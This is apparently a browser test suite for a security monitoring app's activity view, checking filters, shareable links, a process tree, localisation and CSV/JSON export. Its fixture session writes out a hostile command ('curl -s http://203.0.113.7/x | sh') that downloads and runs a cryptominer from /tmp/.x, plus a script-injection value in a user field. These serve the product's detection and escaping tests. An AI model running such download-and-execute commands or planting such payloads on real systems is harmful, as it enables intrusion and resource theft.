/** The activity in a real browser: a session on a host among calls of the cloud; filters by a click, links that show the same, the tree, files. */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Activity } from '../../server/src/activity/activity.ts';
import { describeInBrowser, openBrowser, openPageAs } from '../browser.ts';
import { look } from '../look.ts';
import { type EnrolledPerson, type RunningApp, startRunningApp } from '../running-app.ts';

const WIDE = { width: 1280, height: 860 };
const NARROW = { width: 390, height: 844 };
const BEGAN_MS = Date.now() - 20 * 60_000;

function ns(second: number): bigint {
  return BigInt(BEGAN_MS + second * 1_000) * 1_000_000n;
}

/** What a stranger did in a container for a few seconds, which is gone since. */
function session(): Activity[] {
  const common = {
    host: 'node-1',
    container: 'c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00',
    application: 'shop/deployment/web',
    loginUser: '',
    user: 'www-data',
    tty: 0,
    result: '',
    count: 1,
    bytes: 0,
  };
  const deed = (second: number, pid: number, parent: number, rest: Partial<Activity>): Activity => ({
    ...common,
    timeNs: ns(second),
    kind: 'command',
    process: { pid, startNs: ns(pid) },
    parent: { pid: parent, startNs: ns(parent) },
    name: '',
    exe: '',
    detail: '',
    ...rest,
  });
  return [
    deed(0, 1, 0, { name: 'nginx', exe: '/usr/sbin/nginx', detail: 'nginx -g daemon off;' }),
    deed(5, 50, 1, { name: 'sh', exe: '/bin/sh', detail: 'sh -c curl -s http://203.0.113.7/x | sh' }),
    deed(5, 51, 50, { name: 'curl', exe: '/usr/bin/curl', detail: 'curl -s http://203.0.113.7/x' }),
    deed(6, 51, 50, { kind: 'connection', name: 'curl', detail: '10.0.0.5:40112 → 203.0.113.7:80', bytes: 48_211 }),
    deed(6, 51, 50, { kind: 'exit', name: 'curl' }),
    deed(7, 52, 50, { kind: 'file-written', name: 'sh', detail: '/tmp/.x/miner', bytes: 2_411_724 }),
    deed(8, 52, 50, { kind: 'file-mode', name: 'chmod', detail: '/tmp/.x/miner' }),
    deed(9, 53, 50, {
      name: 'miner',
      exe: '/tmp/.x/miner',
      detail: '/tmp/.x/miner --threads 4',
      user: '<script>alert(1)</script>',
    }),
    ...Array.from({ length: 40 }, (_, index) =>
      deed(10 + index, 1, 0, { kind: 'file-read', name: 'nginx', detail: `/srv/page-${index % 30}.html`, count: 3 }),
    ),
  ];
}

describeInBrowser('the activity', () => {
  let running: RunningApp;
  let browser: Browser;
  let page: Page;
  let ann: EnrolledPerson;
  const complaints: string[] = [];

  beforeAll(async () => {
    running = await startRunningApp(
      'people: [{ email: ann@example.com, name: Ann Example, role: admin }]\npolicy: [{ when: {}, then: record }]\n',
      {},
    );
    ann = await running.enrol('ann@example.com');
    await running.app.activity.insert(session(), 'agent-1.1');
    await running.happens({ call: 'GetCallerIdentity', user: 'deployer' });
    browser = await openBrowser();
    page = await openPageAs({ browser, running, person: ann, complaints }, { viewport: WIDE, timezoneId: 'UTC' });
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await running?.close();
    expect(complaints).toEqual([]);
  });

  test('rows of hosts and of the cloud stand in one stream, with a histogram', async () => {
    await expect
      .poll(async () => (await running.call(ann, 'GET', '/api/activity?with=kind:cloud-call')).body['rows'], {
        timeout: 30_000,
      })
      .toHaveLength(1);
    await page.goto(`${running.app.url}/activity`);
    await page.getByText('GetCallerIdentity').first().waitFor();
    await look(page, 'activity-wide');
    await page.setViewportSize(NARROW);
    await look(page, 'activity-narrow');
    await page.setViewportSize(WIDE);
  });

  test('a click excludes a value or shows nothing else, and the address says so', async () => {
    await page.goto(`${running.app.url}/activity`);
    await page.locator('summary', { hasText: 'nginx' }).first().click();
    await page.getByRole('button', { name: 'Without this' }).first().click();
    await page.getByText('/tmp/.x/miner --threads 4').waitFor();
    expect(decodeURIComponent(page.url())).toContain('without=name:nginx');
    await page.getByRole('button', { name: 'Connection' }).first().click();
    await page.getByText('203.0.113.7:80').waitFor();
    expect(await page.getByRole('row').count()).toBe(2);
    const shared = page.url();
    await page.goto('about:blank');
    await page.goto(shared);
    await page.getByText('203.0.113.7:80').waitFor();
    expect(await page.getByRole('row').count()).toBe(2);
  });

  test('from a row to the processes of its moment, although the container is gone', async () => {
    await page.goto(`${running.app.url}/activity?with=name:miner`);
    await page.getByText('/tmp/.x/miner --threads 4').first().waitFor();
    await page.locator('td button.plain').first().click();
    await page.getByRole('complementary', { name: 'Processes at this moment' }).waitFor();
    const tree = page.locator('.tree');
    await tree.getByText('miner --threads').waitFor();
    expect(await tree.locator('li').allTextContents()).toHaveLength(3);
    await look(page, 'activity-tree-wide');
    await page.evaluate(() => localStorage.setItem('countersign.language', 'ja'));
    await page.emulateMedia({ colorScheme: 'dark' });
    await page.reload();
    await page.getByRole('heading', { name: 'アクティビティ' }).waitFor();
    await page.getByText('コマンド').first().waitFor();
    await look(page, 'activity-ja-dark');
    await page.emulateMedia({ colorScheme: 'light' });
    await page.evaluate(() => localStorage.setItem('countersign.language', 'en'));
  });

  test('the same as files, where no value can become a formula', async () => {
    const csv = String((await running.call(ann, 'GET', '/api/activity.csv?with=name:curl')).body['text']);
    expect(csv.split('\r\n')[0]).toBe(
      'at,kind,host,container,application,pid,name,exe,loginUser,user,detail,result,count,bytes',
    );
    expect(csv.split('\r\n')).toHaveLength(5);
    const { body } = await running.call(ann, 'GET', '/api/activity.json?with=name:miner');
    expect(body).toMatchObject({ detail: '/tmp/.x/miner --threads 4' });
  });

  test('an unknown field, a wrong time and a stranger are refused in words', async () => {
    const { status, body } = await running.call(ann, 'GET', '/api/activity?with=color:red');
    expect([status, body['message']]).toEqual([400, expect.stringContaining('the fields are kind, host')]);
    expect((await running.call(ann, 'GET', '/api/activity?from=yesterday')).status).toBe(400);
    expect((await running.call(null, 'GET', '/api/activity')).status).toBe(401);
  });
});
